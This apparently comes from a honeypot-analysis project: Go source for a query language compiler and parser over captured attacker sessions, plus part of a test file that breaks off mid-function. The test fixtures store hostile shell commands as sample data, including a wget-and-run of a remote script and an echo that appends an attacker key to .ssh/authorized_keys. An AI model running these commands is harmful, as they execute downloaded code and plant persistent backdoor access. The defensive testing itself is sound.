	w := p.World
	if ccfg.Workers == 0 {
		ccfg.Workers = w.Workers
	}
	tasks := runAllTasks()
	bufs, errs := scheduleTasks(tasks, &runState{w: w, ccfg: ccfg}, parallel.Workers(w.Workers))
	for i := range tasks {
		if errs[i] != nil {
			return errs[i]
		}
		if _, err := out.Write(bufs[i].Bytes()); err != nil {
			return err
		}
	}
	return nil
}
