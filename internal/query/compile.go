package query

import (
	"fmt"
	"regexp"
	"strconv"
	"strings"
	"time"

	"honeynet/internal/session"
	"honeynet/internal/store"
)

// fieldNames maps DSL names (and aliases) to store fields.
var fieldNames = map[string]store.Field{
	"start":         store.FieldStart,
	"time":          store.FieldStart,
	"end":           store.FieldEnd,
	"duration":      store.FieldDuration,
	"dur":           store.FieldDuration,
	"month":         store.FieldMonth,
	"day":           store.FieldDay,
	"id":            store.FieldID,
	"hp":            store.FieldHoneypot,
	"honeypot":      store.FieldHoneypot,
	"hp_ip":         store.FieldHoneypotIP,
	"ip":            store.FieldIP,
	"client_ip":     store.FieldIP,
	"port":          store.FieldPort,
	"client_port":   store.FieldPort,
	"proto":         store.FieldProto,
	"protocol":      store.FieldProto,
	"client_ver":    store.FieldClientVer,
	"version":       store.FieldClientVer,
	"kind":          store.FieldKind,
	"class":         store.FieldKind,
	"user":          store.FieldUser,
	"username":      store.FieldUser,
	"pass":          store.FieldPassword,
	"password":      store.FieldPassword,
	"login_ok":      store.FieldLoginOK,
	"logged_in":     store.FieldLoginOK,
	"logins":        store.FieldLogins,
	"cmd":           store.FieldCmd,
	"command":       store.FieldCmd,
	"cmds":          store.FieldCommands,
	"commands":      store.FieldCommands,
	"dls":           store.FieldDownloads,
	"downloads":     store.FieldDownloads,
	"uri":           store.FieldURI,
	"url":           store.FieldURI,
	"hash":          store.FieldHash,
	"state_changed": store.FieldStateChanged,
	"timeout":       store.FieldTimedOut,
	"timed_out":     store.FieldTimedOut,
}

// kindNames maps session-kind literals (§3.3 names) to kinds.
var kindNames = map[string]session.Kind{
	"scanning":          session.Scanning,
	"scouting":          session.Scouting,
	"intrusion":         session.Intrusion,
	"command-execution": session.CommandExec,
	"command_execution": session.CommandExec,
	"commandexec":       session.CommandExec,
	"exec":              session.CommandExec,
}

// timeLayouts, most-specific first; a bare year or month widens to its
// bucket start.
var timeLayouts = []string{
	time.RFC3339,
	"2006-01-02T15:04:05",
	"2006-01-02 15:04:05",
	"2006-01-02",
	"2006-01",
	"2006",
}

// Compiled is a statement lowered onto the store's Query engine plus
// the output shaping (columns, ordering, limit) the engine doesn't do.
type Compiled struct {
	Stmt    *Stmt
	Query   *store.Query
	Columns []string

	star    bool
	rowCols []store.Field // projected row-mode columns
	aggCols []aggCol      // aggregation-mode columns
	orderBy []ordKey
	limit   int
	hasLim  bool
	explain bool
}

// aggCol maps one output column to the group key or aggregate that
// produces it.
type aggCol struct {
	key bool
	idx int
}

type ordKey struct {
	col  int
	desc bool
}

// Compile parses and compiles one statement.
func Compile(src string) (*Compiled, error) {
	st, err := Parse(src)
	if err != nil {
		return nil, err
	}
	return compileStmt(st)
}

// CompileFilter parses a bare predicate expression — the hnanalyze
// -where form — and compiles it to a record filter.
func CompileFilter(src string) (store.Filter, error) {
	p, err := CompilePredicate(src)
	if err != nil {
		return nil, err
	}
	return store.CompilePred(p)
}

// CompilePredicate parses a bare predicate expression to a typed store
// predicate tree (for callers that want pushdown, not just a filter).
func CompilePredicate(src string) (*store.Pred, error) {
	e, err := ParseExpr(src)
	if err != nil {
		return nil, err
	}
	return compileExpr(e)
}

func compileStmt(st *Stmt) (*Compiled, error) {
	c := &Compiled{
		Stmt:    st,
		Query:   &store.Query{},
		star:    st.Star,
		explain: st.Explain,
		limit:   st.Limit,
		hasLim:  st.HasLim,
	}
	if st.Where != nil {
		p, err := compileExpr(st.Where)
		if err != nil {
			return nil, err
		}
		c.Query.Where = p
	}

	hasAgg := false
	for _, it := range st.Items {
		if it.Agg != "" {
			hasAgg = true
		}
	}

	switch {
	case st.Star:
		if hasAgg || len(st.Items) > 0 {
			return nil, errAt(0, "SELECT * cannot mix with other columns")
		}
		if len(st.GroupBy) > 0 {
			return nil, errAt(st.GroupBy[0].Pos, "SELECT * cannot GROUP BY")
		}
		if err := c.pushRowOrder(st, nil); err != nil {
			return nil, err
		}

	case !hasAgg:
		if len(st.GroupBy) > 0 {
			return nil, errAt(st.GroupBy[0].Pos, "GROUP BY requires an aggregate in SELECT")
		}
		for _, it := range st.Items {
			f, err := lookupField(Ident{it.Pos, it.Field})
			if err != nil {
				return nil, err
			}
			c.rowCols = append(c.rowCols, f)
			c.Columns = append(c.Columns, f.Name())
			c.Query.Select = append(c.Query.Select, f)
		}
		if err := c.pushRowOrder(st, c.rowCols); err != nil {
			return nil, err
		}

	default:
		// Aggregation: non-agg select items and GROUP BY fields must
		// agree, so every output row is one group.
		groupOf := map[store.Field]int{}
		for _, g := range st.GroupBy {
			f, err := lookupField(g)
			if err != nil {
				return nil, err
			}
			if _, dup := groupOf[f]; dup {
				return nil, errAt(g.Pos, "duplicate GROUP BY field %s", f.Name())
			}
			if f.Multi() {
				return nil, errAt(g.Pos, "%s: cannot group by multi-valued field", f.Name())
			}
			groupOf[f] = len(c.Query.GroupBy)
			c.Query.GroupBy = append(c.Query.GroupBy, f)
		}
		for _, it := range st.Items {
			if it.Agg == "" {
				f, err := lookupField(Ident{it.Pos, it.Field})
				if err != nil {
					return nil, err
				}
				gi, ok := groupOf[f]
				if !ok {
					return nil, errAt(it.Pos, "%s must appear in GROUP BY", f.Name())
				}
				c.aggCols = append(c.aggCols, aggCol{key: true, idx: gi})
				c.Columns = append(c.Columns, f.Name())
				continue
			}
			spec, name, err := compileAgg(it)
			if err != nil {
				return nil, err
			}
			c.aggCols = append(c.aggCols, aggCol{idx: len(c.Query.Aggs)})
			c.Query.Aggs = append(c.Query.Aggs, spec)
			c.Columns = append(c.Columns, name)
		}
	}

	if hasAgg {
		for _, k := range st.OrderBy {
			col, err := c.resolveOrder(k)
			if err != nil {
				return nil, err
			}
			c.orderBy = append(c.orderBy, ordKey{col: col, desc: k.Desc})
		}
	}
	if c.hasLim && !hasAgg {
		c.Query.Limit = c.limit
	}
	return c, nil
}

// pushRowOrder lowers a row-mode ORDER BY onto the store query, where
// it runs below the scan as a bounded top-k heap (with LIMIT) instead
// of a post-hoc sort. The store orders by one key; ties keep store
// order, which is deterministic, so a single key is all the engine
// accepts here.
func (c *Compiled) pushRowOrder(st *Stmt, rowCols []store.Field) error {
	if len(st.OrderBy) == 0 {
		return nil
	}
	if len(st.OrderBy) > 1 {
		return errAt(st.OrderBy[1].Pos, "row-mode ORDER BY takes one key (ties keep store order)")
	}
	k := st.OrderBy[0]
	if k.Item != nil {
		return errAt(k.Pos, "ORDER BY %s(...) requires aggregation", k.Item.Agg)
	}
	var f store.Field
	if k.Ordinal > 0 {
		if k.Ordinal > len(rowCols) {
			return errAt(k.Pos, "ORDER BY ordinal %d out of range", k.Ordinal)
		}
		f = rowCols[k.Ordinal-1]
	} else {
		var err error
		if f, err = lookupField(Ident{k.Pos, lower(k.Col)}); err != nil {
			return err
		}
	}
	if f.Multi() {
		return errAt(k.Pos, "%s: cannot order by multi-valued field", f.Name())
	}
	c.Query.OrderBy, c.Query.Desc = f, k.Desc
	return nil
}

func (c *Compiled) resolveOrder(k OrderKey) (int, error) {
	if k.Ordinal > 0 {
		if k.Ordinal > len(c.Columns) {
			return 0, errAt(k.Pos, "ORDER BY ordinal %d out of range", k.Ordinal)
		}
		return k.Ordinal - 1, nil
	}
	want := lower(k.Col)
	if k.Item != nil {
		_, name, err := compileAgg(*k.Item)
		if err != nil {
			return 0, err
		}
		want = name
	}
	for i, name := range c.Columns {
		if name == want {
			return i, nil
		}
	}
	// A named field may be spelled by an alias; resolve and re-match.
	if f, err := lookupField(Ident{k.Pos, want}); err == nil {
		for i, name := range c.Columns {
			if name == f.Name() {
				return i, nil
			}
		}
	}
	return 0, errAt(k.Pos, "ORDER BY column %q is not selected", k.Col)
}

func lookupField(id Ident) (store.Field, error) {
	f, ok := fieldNames[id.Name]
	if !ok {
		return 0, errAt(id.Pos, "unknown field %q", id.Name)
	}
	return f, nil
}

func compileAgg(it SelectItem) (store.AggSpec, string, error) {
	if it.Agg == "count" && it.Field == "" {
		return store.AggSpec{Op: store.AggCount}, "count(*)", nil
	}
	f, err := lookupField(Ident{it.Pos, it.Field})
	if err != nil {
		return store.AggSpec{}, "", err
	}
	var op store.AggOp
	name := fmt.Sprintf("%s(%s)", it.Agg, f.Name())
	switch it.Agg {
	case "count":
		op = store.AggCount
		if it.Distinct {
			op = store.AggCountDistinct
			name = fmt.Sprintf("count(distinct %s)", f.Name())
		}
	case "sum":
		op = store.AggSum
	case "avg":
		op = store.AggAvg
	case "min":
		op = store.AggMin
	case "max":
		op = store.AggMax
	}
	spec := store.AggSpec{Op: op, Field: f}
	if err := checkAggSpec(spec, it.Pos); err != nil {
		return store.AggSpec{}, "", err
	}
	return spec, name, nil
}

// checkAggSpec surfaces aggregate/field mismatches as positioned
// errors (the store would reject them too, but without positions).
func checkAggSpec(spec store.AggSpec, pos int) error {
	f := spec.Field
	switch spec.Op {
	case store.AggSum, store.AggAvg:
		if f.Multi() || (f.Type() != store.ValInt && f.Type() != store.ValFloat) {
			return errAt(pos, "%s(%s): field is not numeric", spec.Op, f.Name())
		}
	case store.AggMin, store.AggMax:
		if f.Multi() || f.Type() == store.ValBool {
			return errAt(pos, "%s(%s): field is not orderable", spec.Op, f.Name())
		}
	}
	return nil
}

func compileExpr(e Expr) (*store.Pred, error) {
	switch n := e.(type) {
	case *BoolExpr:
		kids := make([]*store.Pred, len(n.Kids))
		for i, k := range n.Kids {
			p, err := compileExpr(k)
			if err != nil {
				return nil, err
			}
			kids[i] = p
		}
		if n.Op == "and" {
			return store.And(kids...), nil
		}
		return store.Or(kids...), nil
	case *NotExpr:
		kid, err := compileExpr(n.Kid)
		if err != nil {
			return nil, err
		}
		return store.Not(kid), nil
	case *CmpExpr:
		return compileCmp(n)
	}
	return nil, errAt(e.pos(), "unsupported expression")
}

var cmpOps = map[string]store.CmpOp{
	"=": store.CmpEq, "!=": store.CmpNe,
	"<": store.CmpLt, "<=": store.CmpLe,
	">": store.CmpGt, ">=": store.CmpGe,
}

func compileCmp(n *CmpExpr) (*store.Pred, error) {
	f, err := lookupField(n.Field)
	if err != nil {
		return nil, err
	}
	if n.Op == "~" || n.Op == "!~" {
		if f.Type() != store.ValString {
			return nil, errAt(n.Pos, "%s: ~ requires a string field", f.Name())
		}
		re, err := regexp.Compile(n.Lit.Text)
		if err != nil {
			return nil, errAt(n.Lit.Pos, "bad regex: %v", err)
		}
		return store.Match(f, re, n.Op == "!~"), nil
	}
	op, ok := cmpOps[n.Op]
	if !ok {
		return nil, errAt(n.Pos, "unknown operator %s", n.Op)
	}
	if (op == store.CmpLt || op == store.CmpLe || op == store.CmpGt || op == store.CmpGe) &&
		(f.Multi() || f.Type() == store.ValBool) {
		return nil, errAt(n.Pos, "%s: ordering comparison not supported", f.Name())
	}
	v, err := typeLiteral(f, n.Lit)
	if err != nil {
		return nil, err
	}
	return store.Cmp(f, op, v), nil
}

// typeLiteral types a raw literal against the field it compares with.
func typeLiteral(f store.Field, lit Lit) (store.Value, error) {
	text := lit.Text
	switch f.Type() {
	case store.ValString:
		if lit.Kind == litNumber {
			return store.StringValue(text), nil // e.g. port-like names
		}
		return store.StringValue(text), nil

	case store.ValInt:
		n, err := strconv.ParseInt(text, 10, 64)
		if err != nil {
			return store.Value{}, errAt(lit.Pos, "%s: expected an integer, got %q", f.Name(), text)
		}
		return store.IntValue(n), nil

	case store.ValFloat:
		// Durations: a bare number is seconds; suffixed forms (90s,
		// 1h30m) go through ParseDuration.
		if n, err := strconv.ParseFloat(text, 64); err == nil {
			return store.FloatValue(n), nil
		}
		if d, err := time.ParseDuration(text); err == nil {
			return store.FloatValue(d.Seconds()), nil
		}
		return store.Value{}, errAt(lit.Pos, "%s: expected a number or duration, got %q", f.Name(), text)

	case store.ValBool:
		switch lower(text) {
		case "true", "yes", "1":
			return store.BoolValue(true), nil
		case "false", "no", "0":
			return store.BoolValue(false), nil
		}
		return store.Value{}, errAt(lit.Pos, "%s: expected true or false, got %q", f.Name(), text)

	case store.ValTime, store.ValMonth, store.ValDay:
		t, layout, err := parseTime(text)
		if err != nil {
			return store.Value{}, errAt(lit.Pos, "%s: %v", f.Name(), err)
		}
		switch f.Type() {
		case store.ValMonth:
			return store.MonthValue(time.Date(t.Year(), t.Month(), 1, 0, 0, 0, 0, time.UTC)), nil
		case store.ValDay:
			if layout == "2006" || layout == "2006-01" {
				return store.Value{}, errAt(lit.Pos, "%s: expected a date (YYYY-MM-DD), got %q", f.Name(), text)
			}
			return store.DayValue(t.Truncate(24 * time.Hour)), nil
		}
		return store.TimeValue(t), nil

	case store.ValSessionKind:
		if k, ok := kindNames[lower(text)]; ok {
			return store.KindValue(k), nil
		}
		if n, err := strconv.ParseInt(text, 10, 64); err == nil && n >= 0 && n <= 3 {
			return store.KindValue(session.Kind(n)), nil
		}
		return store.Value{}, errAt(lit.Pos,
			"%s: expected scanning, scouting, intrusion, or command-execution, got %q", f.Name(), text)
	}
	return store.Value{}, errAt(lit.Pos, "cannot type literal %q", text)
}

// parseTime tries the accepted layouts, returning the matched layout
// so callers can tell how precise the literal was.
func parseTime(text string) (time.Time, string, error) {
	for _, layout := range timeLayouts {
		if t, err := time.Parse(layout, text); err == nil {
			return t.UTC(), layout, nil
		}
	}
	return time.Time{}, "", fmt.Errorf("cannot parse %q as a time (try %s)",
		text, strings.Join([]string{"2006-01-02T15:04:05Z", "2006-01-02", "2006-01"}, ", "))
}
