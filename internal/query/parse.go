package query

import "strconv"

// Stmt is the parsed statement. Literals stay raw: the compiler types
// them against the field they compare with.
type Stmt struct {
	Explain bool
	Star    bool
	Items   []SelectItem
	Where   Expr
	GroupBy []Ident
	OrderBy []OrderKey
	Limit   int  // 0 = unlimited
	HasLim  bool // LIMIT 0 is distinguishable from no LIMIT
}

// SelectItem is one output column: a bare field or an aggregate.
type SelectItem struct {
	Pos      int
	Agg      string // "", "count", "sum", "avg", "min", "max"
	Distinct bool   // count(distinct f)
	Field    string // "" for count(*)
}

// Ident is a positioned identifier.
type Ident struct {
	Pos  int
	Name string
}

// OrderKey is one ORDER BY column: a name, an aggregate expression, or
// a 1-based ordinal.
type OrderKey struct {
	Pos     int
	Col     string
	Item    *SelectItem // aggregate form: ORDER BY count(*) etc.
	Ordinal int         // 0 = named
	Desc    bool
}

// Expr is a predicate AST node.
type Expr interface{ pos() int }

// BoolExpr combines children with "and" or "or".
type BoolExpr struct {
	Pos  int
	Op   string // "and", "or"
	Kids []Expr
}

// NotExpr negates its child.
type NotExpr struct {
	Pos int
	Kid Expr
}

// CmpExpr compares a field with a literal.
type CmpExpr struct {
	Pos   int
	Field Ident
	Op    string // = != < <= > >= ~ !~
	Lit   Lit
}

func (e *BoolExpr) pos() int { return e.Pos }
func (e *NotExpr) pos() int  { return e.Pos }
func (e *CmpExpr) pos() int  { return e.Pos }

// litKind tags a raw literal.
type litKind int

const (
	litString litKind = iota
	litNumber         // raw text: 42, 1.5, 90s
	litRegex
	litIdent // bare word: ssh, scanning, true
)

// Lit is a raw literal; Text is unquoted/unescaped.
type Lit struct {
	Pos  int
	Kind litKind
	Text string
}

// parser is a one-token-lookahead recursive-descent parser.
type parser struct {
	lex lexer
	tok token
	err error
}

func newParser(src string) (*parser, error) {
	p := &parser{lex: lexer{src: src}}
	return p, p.advance()
}

func (p *parser) advance() error {
	tok, err := p.lex.next()
	if err != nil {
		return err
	}
	p.tok = tok
	return nil
}

// kw reports whether the current token is the given keyword
// (case-insensitive).
func (p *parser) kw(word string) bool {
	return p.tok.kind == tokIdent && equalFold(p.tok.text, word)
}

// eatKw consumes a keyword if present.
func (p *parser) eatKw(word string) (bool, error) {
	if !p.kw(word) {
		return false, nil
	}
	return true, p.advance()
}

// expectKw requires a keyword.
func (p *parser) expectKw(word string) error {
	ok, err := p.eatKw(word)
	if err != nil {
		return err
	}
	if !ok {
		return errAt(p.tok.pos, "expected %s", word)
	}
	return nil
}

// Parse parses one full statement.
func Parse(src string) (*Stmt, error) {
	p, err := newParser(src)
	if err != nil {
		return nil, err
	}
	st := &Stmt{}
	if ok, err := p.eatKw("explain"); err != nil {
		return nil, err
	} else if ok {
		st.Explain = true
	}
	if err := p.expectKw("select"); err != nil {
		return nil, err
	}
	if err := p.parseSelectList(st); err != nil {
		return nil, err
	}
	if ok, err := p.eatKw("where"); err != nil {
		return nil, err
	} else if ok {
		if st.Where, err = p.parseExpr(); err != nil {
			return nil, err
		}
	}
	if ok, err := p.eatKw("group"); err != nil {
		return nil, err
	} else if ok {
		if err := p.expectKw("by"); err != nil {
			return nil, err
		}
		for {
			if p.tok.kind != tokIdent {
				return nil, errAt(p.tok.pos, "expected field name in GROUP BY")
			}
			st.GroupBy = append(st.GroupBy, Ident{p.tok.pos, p.tok.text})
			if err := p.advance(); err != nil {
				return nil, err
			}
			if p.tok.kind != tokComma {
				break
			}
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	if ok, err := p.eatKw("order"); err != nil {
		return nil, err
	} else if ok {
		if err := p.expectKw("by"); err != nil {
			return nil, err
		}
		for {
			k := OrderKey{Pos: p.tok.pos}
			switch p.tok.kind {
			case tokIdent:
				item, err := p.parseSelectItem()
				if err != nil {
					return nil, err
				}
				if item.Agg != "" {
					k.Item = &item
				} else {
					k.Col = item.Field
				}
			case tokNumber:
				n, err := strconv.Atoi(p.tok.text)
				if err != nil || n < 1 {
					return nil, errAt(p.tok.pos, "ORDER BY ordinal must be a positive integer")
				}
				k.Ordinal = n
				if err := p.advance(); err != nil {
					return nil, err
				}
			default:
				return nil, errAt(p.tok.pos, "expected column in ORDER BY")
			}
			if ok, err := p.eatKw("desc"); err != nil {
				return nil, err
			} else if ok {
				k.Desc = true
			} else if ok, err := p.eatKw("asc"); err != nil {
				return nil, err
			} else if ok {
				// ascending is the default
				_ = ok
			}
			st.OrderBy = append(st.OrderBy, k)
			if p.tok.kind != tokComma {
				break
			}
			if err := p.advance(); err != nil {
				return nil, err
			}
		}
	}
	if ok, err := p.eatKw("limit"); err != nil {
		return nil, err
	} else if ok {
		if p.tok.kind != tokNumber {
			return nil, errAt(p.tok.pos, "expected number after LIMIT")
		}
		n, err := strconv.Atoi(p.tok.text)
		if err != nil || n < 0 {
			return nil, errAt(p.tok.pos, "LIMIT must be a non-negative integer")
		}
		st.Limit, st.HasLim = n, true
		if err := p.advance(); err != nil {
			return nil, err
		}
	}
	if p.tok.kind != tokEOF {
		return nil, errAt(p.tok.pos, "unexpected %q", p.tok.text)
	}
	return st, nil
}

// ParseExpr parses a bare predicate expression (the -where flag form).
func ParseExpr(src string) (Expr, error) {
	p, err := newParser(src)
	if err != nil {
		return nil, err
	}
	e, err := p.parseExpr()
	if err != nil {
		return nil, err
	}
	if p.tok.kind != tokEOF {
		return nil, errAt(p.tok.pos, "unexpected %q", p.tok.text)
	}
	return e, nil
}

func (p *parser) parseSelectList(st *Stmt) error {
	if p.tok.kind == tokStar {
		st.Star = true
		return p.advance()
	}
	for {
		item, err := p.parseSelectItem()
		if err != nil {
			return err
		}
		st.Items = append(st.Items, item)
		if p.tok.kind != tokComma {
			return nil
		}
		if err := p.advance(); err != nil {
			return err
		}
	}
}

var aggNames = map[string]bool{
	"count": true, "sum": true, "avg": true, "min": true, "max": true,
}

func (p *parser) parseSelectItem() (SelectItem, error) {
	if p.tok.kind != tokIdent {
		return SelectItem{}, errAt(p.tok.pos, "expected field or aggregate")
	}
	item := SelectItem{Pos: p.tok.pos}
	name := lower(p.tok.text)
	if err := p.advance(); err != nil {
		return SelectItem{}, err
	}
	if !aggNames[name] || p.tok.kind != tokLParen {
		item.Field = name
		return item, nil
	}
	item.Agg = name
	if err := p.advance(); err != nil { // consume (
		return SelectItem{}, err
	}
	if name == "count" && p.tok.kind == tokStar {
		if err := p.advance(); err != nil {
			return SelectItem{}, err
		}
	} else {
		if ok, err := p.eatKw("distinct"); err != nil {
			return SelectItem{}, err
		} else if ok {
			if name != "count" {
				return SelectItem{}, errAt(item.Pos, "DISTINCT only applies to count")
			}
			item.Distinct = true
		}
		if p.tok.kind != tokIdent {
			return SelectItem{}, errAt(p.tok.pos, "expected field in %s(...)", name)
		}
		item.Field = lower(p.tok.text)
		if err := p.advance(); err != nil {
			return SelectItem{}, err
		}
	}
	if p.tok.kind != tokRParen {
		return SelectItem{}, errAt(p.tok.pos, "expected ) after aggregate")
	}
	return item, p.advance()
}

// parseExpr handles OR (lowest precedence).
func (p *parser) parseExpr() (Expr, error) {
	left, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	pos := left.pos()
	kids := []Expr{left}
	for {
		ok, err := p.eatKw("or")
		if err != nil {
			return nil, err
		}
		if !ok {
			break
		}
		right, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		kids = append(kids, right)
	}
	if len(kids) == 1 {
		return left, nil
	}
	return &BoolExpr{Pos: pos, Op: "or", Kids: kids}, nil
}

func (p *parser) parseAnd() (Expr, error) {
	left, err := p.parseNot()
	if err != nil {
		return nil, err
	}
	pos := left.pos()
	kids := []Expr{left}
	for {
		ok, err := p.eatKw("and")
		if err != nil {
			return nil, err
		}
		if !ok {
			break
		}
		right, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		kids = append(kids, right)
	}
	if len(kids) == 1 {
		return left, nil
	}
	return &BoolExpr{Pos: pos, Op: "and", Kids: kids}, nil
}

func (p *parser) parseNot() (Expr, error) {
	if p.kw("not") {
		pos := p.tok.pos
		if err := p.advance(); err != nil {
			return nil, err
		}
		kid, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		return &NotExpr{Pos: pos, Kid: kid}, nil
	}
	return p.parsePrimary()
}

func (p *parser) parsePrimary() (Expr, error) {
	if p.tok.kind == tokLParen {
		if err := p.advance(); err != nil {
			return nil, err
		}
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		if p.tok.kind != tokRParen {
			return nil, errAt(p.tok.pos, "expected )")
		}
		return e, p.advance()
	}
	if p.tok.kind != tokIdent {
		return nil, errAt(p.tok.pos, "expected field name")
	}
	field := Ident{p.tok.pos, lower(p.tok.text)}
	if err := p.advance(); err != nil {
		return nil, err
	}
	if p.tok.kind != tokOp {
		return nil, errAt(p.tok.pos, "expected comparison operator after %s", field.Name)
	}
	op := p.tok.text
	if err := p.advance(); err != nil {
		return nil, err
	}
	lit, err := p.parseLit(op)
	if err != nil {
		return nil, err
	}
	return &CmpExpr{Pos: field.Pos, Field: field, Op: op, Lit: lit}, nil
}

func (p *parser) parseLit(op string) (Lit, error) {
	lit := Lit{Pos: p.tok.pos}
	switch p.tok.kind {
	case tokString:
		lit.Kind = litString
	case tokNumber:
		lit.Kind = litNumber
	case tokRegex:
		lit.Kind = litRegex
	case tokIdent:
		lit.Kind = litIdent
	default:
		return Lit{}, errAt(p.tok.pos, "expected literal after %s", op)
	}
	if (op == "~" || op == "!~") && lit.Kind != litRegex && lit.Kind != litString {
		return Lit{}, errAt(p.tok.pos, "%s needs a /regex/ or string pattern", op)
	}
	lit.Text = p.tok.text
	return lit, p.advance()
}

func lower(s string) string {
	hasUpper := false
	for i := 0; i < len(s); i++ {
		if s[i] >= 'A' && s[i] <= 'Z' {
			hasUpper = true
			break
		}
	}
	if !hasUpper {
		return s
	}
	b := []byte(s)
	for i, c := range b {
		if c >= 'A' && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}

func equalFold(s, word string) bool {
	if len(s) != len(word) {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		if c != word[i] {
			return false
		}
	}
	return true
}
