package query

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"honeynet/internal/obs"
	"honeynet/internal/session"
	"honeynet/internal/store"
)

// mkRecord builds a deterministic test record; month selects the
// partition, i varies content.
func mkRecord(month, i int) *session.Record {
	start := time.Date(2021, time.Month(5+month), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 97 * time.Second)
	r := &session.Record{
		ID:         uint64(month*1_000_000 + i),
		Start:      start,
		End:        start.Add(time.Duration(10+i%90) * time.Second),
		HoneypotID: fmt.Sprintf("hp-%d", i%3),
		ClientIP:   fmt.Sprintf("203.0.%d.%d", month, i%250),
		ClientPort: 40000 + i,
		Protocol:   session.ProtoSSH,
	}
	switch i % 4 {
	case 1:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "123456", Success: false}}
	case 2:
		r.Logins = []session.LoginAttempt{{Username: "admin", Password: "admin", Success: true}}
	case 3:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
		r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh; sh %d.sh", i, i), Known: true}}
		r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Hash: fmt.Sprintf("%064x", i)}}
		r.StateChanged = true
	}
	if i%7 == 0 {
		r.Protocol = session.ProtoTelnet
	}
	if i%13 == 3 {
		r.Commands = append(r.Commands, session.Command{Raw: "echo mdrfckr >> .ssh/authorized_keys", Known: true})
	}
	return r
}

// sealedStore builds a store with n records over months partitions,
// fully sealed.
func sealedStore(t *testing.T, n, months int) (*store.Store, []*session.Record) {
	t.Helper()
	s, err := store.Open(t.TempDir(), store.Options{BlockBytes: 2048})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	recs := make([]*session.Record, 0, n)
	for i := 0; i < n; i++ {
		r := mkRecord(i%months, i)
		if err := s.Append(r); err != nil {
			t.Fatal(err)
		}
		recs = append(recs, r)
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	return s, recs
}

// TestMetadataOnlyAggregate is the acceptance check: a kind/protocol-
// only GROUP BY month aggregate over a sealed store must complete with
// zero block reads, observable through the obs counters, and EXPLAIN
// must report the pruning.
func TestMetadataOnlyAggregate(t *testing.T) {
	s, recs := sealedStore(t, 600, 3)
	reg := obs.NewRegistry()
	s.Register(reg)
	before := reg.Snapshot()

	res, err := Run(s, `EXPLAIN SELECT month, count(*) WHERE proto = 'ssh' GROUP BY month ORDER BY month`)
	if err != nil {
		t.Fatal(err)
	}

	after := reg.Snapshot()
	if got := after["honeynet_store_blocks_read_total"] - before["honeynet_store_blocks_read_total"]; got != 0 {
		t.Fatalf("metadata-only aggregate read %v blocks, want 0", got)
	}
	if got := after["honeynet_query_meta_only_total"] - before["honeynet_query_meta_only_total"]; got != 1 {
		t.Fatalf("meta-only counter moved by %v, want 1", got)
	}
	if after["honeynet_query_total"] <= before["honeynet_query_total"] {
		t.Fatal("query counter did not move")
	}
	if st := res.Stats; st.Mode != "metadata" || st.BlocksRead != 0 || st.MetaSegments == 0 || st.BlocksSkipped == 0 {
		t.Fatalf("unexpected stats: %+v", st)
	}

	// Ground truth from the in-memory records.
	want := map[string]int64{}
	for _, r := range recs {
		if r.Protocol == session.ProtoSSH {
			want[r.Month().Format("2006-01")]++
		}
	}
	if len(res.Rows) != len(want) {
		t.Fatalf("got %d groups, want %d", len(res.Rows), len(want))
	}
	for _, row := range res.Rows {
		m := row[0].String()
		if row[1].Int != want[m] {
			t.Errorf("month %s: count %d, want %d", m, row[1].Int, want[m])
		}
	}

	if res.Explain == nil {
		t.Fatal("EXPLAIN returned no plan")
	}
	text := strings.Join(res.Explain, "\n")
	for _, frag := range []string{"plan: metadata", "time-pruned", "Bloom", "blocks skipped"} {
		if !strings.Contains(text, frag) {
			t.Errorf("EXPLAIN output missing %q:\n%s", frag, text)
		}
	}
}

// TestTimePushdownPrunesSegments checks month-bound predicates never
// touch other partitions' blocks and that EXPLAIN reports the pruning.
func TestTimePushdownPrunesSegments(t *testing.T) {
	s, recs := sealedStore(t, 600, 3)
	res, err := Run(s, `EXPLAIN SELECT count(*) WHERE month = '2021-06' AND cmd ~ /wget/`)
	if err != nil {
		t.Fatal(err)
	}
	st := res.Stats
	if st.TimePruned == 0 {
		t.Fatalf("expected time-pruned segments, got stats %+v", st)
	}
	var want int64
	for _, r := range recs {
		if r.Month().Format("2006-01") == "2021-06" && strings.Contains(r.CommandText(), "wget") {
			want++
		}
	}
	if got := res.Rows[0][0].Int; got != want {
		t.Fatalf("count = %d, want %d", got, want)
	}
}

// TestIPRouteUsesBloom checks an `ip =` predicate routes through the
// Bloom filters.
func TestIPRouteUsesBloom(t *testing.T) {
	s, recs := sealedStore(t, 600, 3)
	ip := recs[42].ClientIP
	res, err := Run(s, fmt.Sprintf(`SELECT * WHERE ip = '%s'`, ip))
	if err != nil {
		t.Fatal(err)
	}
	if res.Stats.Mode != "ip-scan" || res.Stats.BloomChecked == 0 {
		t.Fatalf("expected Bloom-routed ip-scan, got %+v", res.Stats)
	}
	var want int
	for _, r := range recs {
		if r.ClientIP == ip {
			want++
		}
	}
	if len(res.Records) != want {
		t.Fatalf("got %d records, want %d", len(res.Records), want)
	}
}

// TestProjectionSkipsFields checks projected queries produce the same
// values as full decodes.
func TestProjectionSkipsFields(t *testing.T) {
	s, recs := sealedStore(t, 200, 2)
	res, err := Run(s, `SELECT month, ip, port WHERE proto = 'ssh'`)
	if err != nil {
		t.Fatal(err)
	}
	// Rows stream in store order: month-major, append order within a
	// month (not global append order, which interleaves partitions).
	var want [][3]string
	for _, m := range []string{"2021-05", "2021-06"} {
		for _, r := range recs {
			if r.Protocol == session.ProtoSSH && r.Month().Format("2006-01") == m {
